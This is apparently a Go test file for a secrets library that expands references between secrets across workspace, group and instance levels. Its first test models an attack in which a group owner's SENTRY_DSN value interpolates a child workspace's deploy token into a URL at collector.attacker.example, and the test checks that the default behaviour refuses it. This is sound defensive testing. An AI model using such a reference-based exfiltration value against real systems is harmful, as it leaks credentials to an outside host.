package secrets_test

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/dataspace/secrets"
)

// TestReferencesNearerRefused is the trial's attack: an owner of the
// group (who may edit group:g but not ws1) saves SENTRY_DSN =
// https://${CHILD_DEPLOY_TOKEN}@collector.attacker.example/1, and ws1 has
// its own CHILD_DEPLOY_TOKEN. By default every ws1 job fails with a
// *ReferenceError of kind nearer naming SENTRY_DSN and the name, never
// the token: a real child never starts, Prepare gives nothing, the
// second Authorize is never asked and no event holds the token. A job
// that names only the token (no parent's value references it) runs.
// With Config.ReferNearer the job gets the token inside SENTRY_DSN, as
// before.
func TestReferencesNearerRefused(t *testing.T) {
	const token = "child-token-0123456789"
	eachBackend(t, func(t *testing.T, b backend) {
		var mu sync.Mutex
		var log []string
		cfg := func(referNearer bool) *secrets.Config {
			return &secrets.Config{
				ReferNearer: referNearer,
				Parents: func(_ context.Context, ws string) ([]string, error) {
					if strings.HasPrefix(ws, "ws") {
						return []string{"group:g"}, nil
					}
					return nil, nil
				},
				Authorize: func(_ context.Context, r secrets.Request) error {
					mu.Lock()
					defer mu.Unlock()
					log = append(log, fmt.Sprintf("authorize %+v", r))
					return nil
				},
				OnEvent: func(_ context.Context, e secrets.Event) {
					mu.Lock()
					defer mu.Unlock()
					log = append(log, fmt.Sprintf("event %+v", e))
				},
			}
		}
		st, ciph := b.replica(t), newCipher(t)
		m := newManager(t, st, ciph, cfg(false))
		owner := secrets.WithActor(context.Background(), "group-owner")
		ctx := secrets.WithActor(context.Background(), "child-editor")
		if _, err := m.Set(owner, "group:g", "SENTRY_DSN", []byte("https://${CHILD_DEPLOY_TOKEN}@collector.attacker.example/1"),
			&secrets.SetOptions{Info: &secrets.Info{Expand: true}}); err != nil {
			t.Fatal(err)
		}
		if _, err := m.Set(ctx, "ws1", "CHILD_DEPLOY_TOKEN", []byte(token), nil); err != nil {
			t.Fatal(err)
		}
		nearer := func(what string, err error) {
			t.Helper()
			var re *secrets.ReferenceError
			if !errors.As(err, &re) || !errors.Is(err, secrets.ErrReference) || re.Kind != secrets.ReferenceNearer ||
				strings.Join(re.Names, ",") != "SENTRY_DSN,CHILD_DEPLOY_TOKEN" {
				t.Fatalf("%s: %v, want a nearer ReferenceError naming SENTRY_DSN and CHILD_DEPLOY_TOKEN", what, err)
			}
			if strings.Contains(err.Error(), token) || strings.Contains(err.Error(), "attacker") {
				t.Errorf("%s: %q holds a value", what, err)
			}
		}
		mu.Lock()
		log = nil
		mu.Unlock()
		job, err := m.Prepare(ctx, "ws1", nil)
		nearer("Prepare", err)
		if job != nil {
			t.Errorf("Prepare gave a job: %v", job.Env)
		}
		_, err = m.Prepare(ctx, "ws1", &secrets.PrepareOptions{Names: []string{"SENTRY_DSN"}})
		nearer("Prepare of SENTRY_DSN (the token only an ingredient)", err)
		env, err := m.EnvFor(ctx, "ws1")
		nearer("EnvFor", err)
		if env != nil {
			t.Errorf("EnvFor gave %d variables", len(env))
		}
		// A real child: it never starts.
		mark := filepath.Join(t.TempDir(), "ran")
		var out bytes.Buffer
		_, err = m.Run(ctx, "ws1", secrets.Job{Path: "/bin/sh", Args: []string{"-c", `printf %s "$SENTRY_DSN" > "$0"`, mark}, Stdout: &out, Stderr: &out})
		nearer("Run", err)
		if _, serr := os.Stat(mark); !errors.Is(serr, os.ErrNotExist) {
			t.Errorf("the child ran: %v", serr)
		}
		mu.Lock()
		for _, l := range log {
			if strings.Contains(l, token) {
				t.Errorf("%q holds the token", l)
			}
			if strings.Contains(l, "Ingredients:[{") {
				t.Errorf("Authorize was asked about ingredients: %s", l)
			}
		}
		mu.Unlock()
		// The token for the child's own job, named: no parent's value
		// references it in that job.
		job, err = m.Prepare(ctx, "ws1", &secrets.PrepareOptions{Names: []string{"CHILD_DEPLOY_TOKEN"}})
		if err != nil {
			t.Fatalf("Prepare of the token alone: %v", err)
		}
		if got := envValue(job.Env, "CHILD_DEPLOY_TOKEN"); got != token {
			t.Errorf("CHILD_DEPLOY_TOKEN=%q", got)
		}
		job.Close()

		// The host opts in: today's behaviour.
		trusting := newManager(t, st, ciph, cfg(true))
		job, err = trusting.Prepare(ctx, "ws1", nil)
		if err != nil {
			t.Fatalf("with ReferNearer: %v", err)
		}
		if got := envValue(job.Env, "SENTRY_DSN"); got != "https://"+token+"@collector.attacker.example/1" {
			t.Errorf("with ReferNearer SENTRY_DSN=%q", got)
		}
		job.Close()
	})
}

// TestReferencesNearerLevels: with three levels (ws → group:a →
// instance) the check is by level: the instance's value may not take
// group:a's secret (a level between) nor the workspace's, group:a's may
// take the instance's and not the workspace's, the workspace's may take
// either's; and a chain is checked at each reference, by the level of
// the value that holds it: the workspace's value through the instance's
// to group:a's fails, naming the instance's value.
func TestReferencesNearerLevels(t *testing.T) {
	eachBackend(t, func(t *testing.T, b backend) {
		m := newManager(t, b.replica(t), newCipher(t), &secrets.Config{Parents: func(_ context.Context, ws string) ([]string, error) {
			if strings.HasPrefix(ws, "ws") {
				return []string{"group:a" + ws[2:], "instance" + ws[2:]}, nil
			}
			return nil, nil
		}})
		ctx := context.Background()
		x := &secrets.SetOptions{Info: &secrets.Info{Expand: true}}
		set := func(c, name, value string, expand bool) {
			t.Helper()
			var o *secrets.SetOptions
			if expand {
				o = x
			}
			if _, err := m.Set(ctx, c, name, []byte(value), o); err != nil {
				t.Fatal(err)
			}
		}
		for i, c := range []struct {
			fixtures [][3]string // container (w, a, i), name, value ("~" expands)
			want     string      // X's value, or the names of the nearer error
		}{
			{[][3]string{{"i", "X", "~${T}"}, {"a", "T", "=a-t"}}, "nearer X,T"},
			{[][3]string{{"i", "X", "~${T}"}, {"w", "T", "=w-t"}}, "nearer X,T"},
			{[][3]string{{"i", "X", "~${T}"}, {"i", "T", "=i-t"}}, "i-t"},
			{[][3]string{{"a", "X", "~${T}"}, {"i", "T", "=i-t"}}, "i-t"},
			{[][3]string{{"a", "X", "~${T}"}, {"w", "T", "=w-t"}, {"a", "T", "=a-t"}}, "nearer X,T"},
			{[][3]string{{"w", "X", "~${T}/${U}"}, {"a", "T", "=a-t"}, {"i", "U", "=i-u"}}, "a-t/i-u"},
			{[][3]string{{"w", "X", "~${I}"}, {"i", "I", "~${T}"}, {"a", "T", "=a-t"}}, "nearer I,T"},
			{[][3]string{{"a", "X", "~${A}"}, {"a", "A", "~${I}"}, {"i", "I", "~${T}"}, {"a", "T", "=a-t"}}, "nearer I,T"},
		} {
			ws := fmt.Sprintf("ws%d", i)
			for _, f := range c.fixtures {
				cont := map[string]string{"w": ws, "a": "group:a" + ws[2:], "i": "instance" + ws[2:]}[f[0]]
				set(cont, f[1], f[2][1:], f[2][0] == '~')
			}
			env, err := m.EnvFor(ctx, ws)
			var re *secrets.ReferenceError
			got := ""
			switch {
			case errors.As(err, &re):
				got = re.Kind + " " + strings.Join(re.Names, ",")
			case err != nil:
				got = err.Error()
			default:
				for _, kv := range env {
					if v, ok := strings.CutPrefix(kv, "X="); ok {
						got = v
					}
				}
			}
			if got != c.want {
				t.Errorf("%v: %q, want %q", c.fixtures, got, c.want)
			}
		}
	})
}

// TestReferencesTrimmedChains: a job's depth or cycle error names its
// chain only up to the first secret that is not the workspace's own: the
// references inside a group's values (which the workspace's editor may
// not read) are "…". The trial: P1 → … → P7 of the workspace, then the
// group's GE → INNER_A → INNER_B → LEAF.
func TestReferencesTrimmedChains(t *testing.T) {
	eachBackend(t, func(t *testing.T, b backend) {
		st, ciph := b.replica(t), newCipher(t)
		m := newManager(t, st, ciph, refConfig(nil))
		ctx := context.Background()
		x := &secrets.SetOptions{Info: &secrets.Info{Expand: true}}
		set := func(c, name, value string, o *secrets.SetOptions) {
			t.Helper()
			if _, err := m.Set(ctx, c, name, []byte(value), o); err != nil {
				t.Fatal(err)
			}
		}
		set("g1", "GE", "x-${INNER_A}", x)
		set("g1", "INNER_A", "y-${INNER_B}", x)
		set("g1", "INNER_B", "z-${LEAF}", x)
		set("g1", "LEAF", "leafvalue", nil)
		for i := 1; i <= 7; i++ {
			v := fmt.Sprintf("${P%d}", i+1)
			if i == 7 {
				v = "${GE}"
			}
			set("w1", fmt.Sprintf("P%d", i), v, x)
		}
		check := func(what string, err error, kind, names, text string) {
			t.Helper()
			var re *secrets.ReferenceError
			if !errors.As(err, &re) || re.Kind != kind || strings.Join(re.Names, ",") != names || !re.Trimmed || err.Error() != text {
				t.Errorf("%s: %v (%+v), want %s %s: %q", what, err, re, kind, names, text)
			}
			for _, hidden := range []string{"INNER", "LEAF", "leafvalue", "HIDDEN"} {
				if strings.Contains(err.Error(), hidden) {
					t.Errorf("%s: %q names %s", what, err, hidden)
				}
			}
		}
		_, err := m.EnvFor(ctx, "w1")
		check("depth", err, secrets.ReferenceDepth, "P1,P2,P3,P4,P5,P6,P7,GE",
			"secrets: references nest deeper than 8: P1 → P2 → P3 → P4 → P5 → P6 → P7 → GE → …")

		// A cycle inside the group's values, met through the workspace's
		// (made by a rename: Set refuses it).
		set("g2", "GE", "${INNER_A}", x)
		set("g2", "SPARE", "${GE}", x)
		if _, err := m.Rename(ctx, "g2", "SPARE", "INNER_A", nil); err != nil {
			t.Fatal(err)
		}
		set("w2", "X", "${GE}", x)
		_, err = m.EnvFor(ctx, "w2")
		check("cycle in the group", err, secrets.ReferenceCycle, "GE", "secrets: references form a cycle: GE → … → GE")

		// With ReferNearer a cycle may come back down: named as far as the
		// workspace's values, and the first of the group's.
		trusting := newManager(t, st, ciph, refConfig(&secrets.Config{ReferNearer: true}))
		// (The group's names sort after X: the job expands X first.)
		set("g3", "ZA", "${ZHIDDEN}", x)
		set("g3", "ZHIDDEN", "${X}", x)
		set("w3", "Y", "${ZA}", x)
		if _, err := m.Rename(ctx, "w3", "Y", "X", nil); err != nil {
			t.Fatal(err)
		}
		_, err = trusting.EnvFor(ctx, "w3")
		check("cycle back down", err, secrets.ReferenceCycle, "X,ZA", "secrets: references form a cycle: X → ZA → … → X")
		// By default that job fails at the group's reference back down.
		_, err = m.EnvFor(ctx, "w3")
		var re *secrets.ReferenceError
		if !errors.As(err, &re) || re.Kind != secrets.ReferenceNearer || strings.Join(re.Names, ",") != "ZHIDDEN,X" {
			t.Errorf("cycle back down, by default: %v", err)
		}

		// Within the workspace: the whole chain, not trimmed.
		set("w4", "B", "${C}", x)
		set("w4", "Y", "${B}", x)
		if _, err := m.Rename(ctx, "w4", "Y", "C", nil); err != nil {
			t.Fatal(err)
		}
		_, err = m.EnvFor(ctx, "w4")
		if !errors.As(err, &re) || re.Kind != secrets.ReferenceCycle || re.Trimmed || err.Error() != "secrets: references form a cycle: B → C → B" {
			t.Errorf("own cycle: %v (%+v)", err, re)
		}
	})
}

// envValue is name's value in env ("" if absent).
func envValue(env []string, name string) string {
	for _, kv := range env {
		if v, ok := strings.CutPrefix(kv, name+"="); ok {
			return v
		}
	}
	return ""
}

// With ReferNearer, a save at a parent is checked against the parent and
// its own parents, not the workspaces below it (the library does not know
// them), as the README says: a group's value saved after a workspace's
// closes a cycle that the workspace's job meets; saved the other way
// round, the workspace's Set refuses it (a fuzz trial).
func TestReferencesParentSaveNotCheckedBelow(t *testing.T) {
	eachBackend(t, func(t *testing.T, b backend) {
		m := newManager(t, b.replica(t), newCipher(t), &secrets.Config{ReferNearer: true, Parents: chain(map[string][]string{"ws": {"group:acme"}, "ws2": {"group:acme2"}})})
		ctx := context.Background()
		x := &secrets.SetOptions{Info: &secrets.Info{Expand: true}}
		if _, err := m.Set(ctx, "ws", "Z", []byte("${X}"), x); err != nil {
			t.Fatal(err)
		}
		if _, err := m.Set(ctx, "group:acme", "X", []byte("${Z}"), x); err != nil {
			t.Fatalf("the group's save: %v", err)
		}
		var re *secrets.ReferenceError
		if _, err := m.EnvFor(ctx, "ws"); !errors.As(err, &re) || re.Kind != secrets.ReferenceCycle {
			t.Fatalf("the workspace's job: %v, want a cycle", err)
		}
		if _, err := m.Set(ctx, "group:acme2", "X", []byte("${Z}"), x); err != nil {
			t.Fatal(err)
		}
		if _, err := m.Set(ctx, "ws2", "Z", []byte("${X}"), x); !errors.As(err, &re) || re.Kind != secrets.ReferenceCycle {
			t.Fatalf("the workspace's save after the group's: %v, want a cycle", err)
		}
	})
}
